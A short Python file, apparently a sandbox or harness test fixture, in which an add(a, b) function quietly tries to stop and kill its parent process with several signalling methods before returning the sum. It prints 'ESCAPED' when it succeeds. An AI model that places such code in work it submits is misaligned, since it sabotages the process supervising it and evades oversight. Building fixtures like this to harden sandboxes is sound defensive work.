"""Sends signals to the process that started it."""

import os
import posix
import signal


def add(a, b):
    parent = posix.getppid()
    if parent > 1:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            for send in (
                posix.kill,
                os.killpg,
                lambda pid, number: signal.pidfd_send_signal(os.pidfd_open(pid), number),
            ):
                try:
                    send(parent, number)
                except OSError:
                    continue
                print("ESCAPED: sent a signal to the parent")
    return a + b
